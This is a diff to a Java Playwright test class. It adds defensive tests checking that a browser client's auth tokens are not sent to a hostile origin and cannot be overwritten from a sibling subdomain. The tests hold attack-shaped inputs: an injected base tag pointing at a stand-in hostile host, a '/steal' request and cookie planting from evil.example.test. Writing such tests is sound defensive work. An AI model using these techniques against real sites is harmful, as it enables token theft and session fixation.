@@ -7,6 +7,7 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 import com.microsoft.playwright.BrowserContext;
 import com.microsoft.playwright.Page;
 import com.microsoft.playwright.Request;
+import com.microsoft.playwright.Route;
 import com.sun.net.httpserver.HttpExchange;
 import com.sun.net.httpserver.HttpServer;
 import java.io.IOException;
@@ -164,6 +165,35 @@ class OtherOriginBrowserIT {
     void clientRefusesToSendTokensToAnotherBase() {
         assertEquals("foreign_origin", codeOf("client.http.get('/steal', { baseURL: hostile })"));
         assertEquals(List.of(), LOOT);
+    }
+
+    /** Where fetch would resolve a relative address against the page, or what the page calls its base. */
+    @ParameterizedTest
+    @ValueSource(strings = {"''", "null", "'/api'"})
+    void clientSendsTokensToTheServiceWhateverThePagesBaseIs(String base) {
+        assertEquals(
+                "not_found",
+                tab.run("const base = document.createElement('base'); base.href = '" + hostile + "/';"
+                        + " document.head.append(base);"
+                        + "return await client.http.get('/steal', { baseURL: " + base + " })"
+                        + ".then(() => 'sent', (error) => error.code);"));
+        assertEquals(List.of(), LOOT);
+    }
+
+    /** Tokens of the attacker's own session, say: the user would go on in it. */
+    @Test
+    void siblingOfTheHostCannotPlantTokens() {
+        context.route(
+                Pattern.compile("https://(app|evil)\\.example\\.test/"),
+                route -> route.fulfill(
+                        new Route.FulfillOptions().setContentType("text/html").setBody("<!doctype html>")));
+        Page page = context.newPage();
+        page.navigate("https://evil.example.test/");
+        String toAll = "=1; Domain=example.test; Path=/; Secure'";
+        page.evaluate("document.cookie = 'planted" + toAll);
+        page.evaluate("document.cookie = '" + Tokens.of(context, stand).nameOf(Tokens.REFRESH) + toAll);
+        page.navigate("https://app.example.test/");
+        assertEquals("planted=1", page.evaluate("document.cookie"));
     }
 
     private Object codeOf(String request) {
